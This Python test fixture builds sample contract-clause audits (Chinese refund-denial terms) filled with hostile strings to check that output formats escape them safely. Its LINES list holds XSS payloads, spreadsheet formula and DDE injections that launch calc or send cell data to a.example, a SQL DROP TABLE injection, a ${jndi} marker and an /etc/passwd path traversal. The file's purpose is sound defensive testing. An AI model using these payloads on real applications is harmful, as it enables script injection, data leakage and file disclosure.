"""Text chosen to break out of every format, and audits made of it."""

from __future__ import annotations

import sample

from clauseaudit.model import Article, Audit, Basis, Document, Fact, Finding, Grade

LINES = [
    "<script>alert(document.cookie)</script>概不退款。",
    "]]></w:t></style></title></textarea>--><img src=x onerror=alert(1)>概不退还。",
    '=HYPERLINK("http://a.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\u202e反着读的\u202c字，\u2066隔开\u2069的字，\u200f右\u200e左，\ufeff没有宽度\u200b的字。",
    "表情👩‍👩‍👧‍👦和🇨🇳，𠮷野家，é e\u0301。",
    "半个字符\ud83d在这里，\udc00也在，\ufffe\uffff不是字符。",
    "控制\x00\x01\x07\x08\x0b\x0c\x1b[31m红\x7f\x85\x9b字符。",
    "[点我](javascript:alert(1)) ![图](http://a.example/p.png) {0} {{x}} \\[转义\\] `代码` | 表格 | # 标题",
    "_x000D__x0041_ &lt;b&gt; &#60; %3Cb%3E ${jndi} {% raw %} {{ 7*7 }}",
    "'); DROP TABLE 条款; --",
    "#REF! 和 #N/A 不是错误值。",
    "../../../../etc/passwd\\..\\..\\con",
]


def article(text: str) -> Article:
    return sample.CIVIL._replace(short=text, title=text, quote=text, effect=text)


def finding(text: str, line: str, grade: Grade, category: str = "refund-denial") -> Finding:
    start = text.index(line)
    return Finding(
        "rule", 0.5, f"{category}/hostile", line, category, grade, start, start + len(line), line, line, line, line,
        line, line, line, (Basis(article(line), line),), 9, settle=line, benchmark=line,
    )  # fmt: skip


def audit() -> Audit:
    """Every line is a finding whose every word is that line, of each grade in turn; so are facts and title."""
    text = "\n".join(LINES) + "\n"
    grades = list(Grade)
    findings = [finding(text, line, grades[i % len(grades)]) for i, line in enumerate(LINES)]
    facts = tuple(
        Fact(question, line, {"key": line}, line, text.index(line), text.index(line) + len(line), line, line)
        for question, line in zip(("refund", "expiry", "renewal", "change", "dispute", "operator"), LINES, strict=False)
    )
    made = sample.audit_of(text, findings, facts)
    document = made.document._replace(id=LINES[15], title=LINES[0], source=LINES[15] + ".txt", notes=tuple(LINES))
    return made._replace(document=document, verdict=made.verdict._replace(sentence=LINES[1]), pack=LINES[2])


def many(count: int) -> Audit:
    """``count`` findings in one document, every fifth of each grade."""
    lines = [f"{i}. 充值成功后概不退款。\n" for i in range(count)]
    grades, findings, start = list(Grade), [], 0
    for i, line in enumerate(lines):
        span = (start, start + len(line) - 1, line[:-1], "第一条")
        wording = ("为什么", "怎么办", "可以改成", "商家说", None, (Basis(sample.CIVIL, ""),))
        about = ("rule", None, "refund-denial/many", "充了就不退", "refund-denial", grades[i % 5])
        findings.append(Finding(*about, *span, *wording))
        start += len(line)
    document = Document("many", "很多条", "many.txt", "".join(lines), "0" * 64)
    findings.sort(key=lambda f: f.grade.rank)
    counts = {str(grade): sum(f.grade is grade for f in findings) for grade in Grade}
    return Audit(document, "2026-11-26", tuple(findings), (), sample.small().verdict._replace(counts=counts))
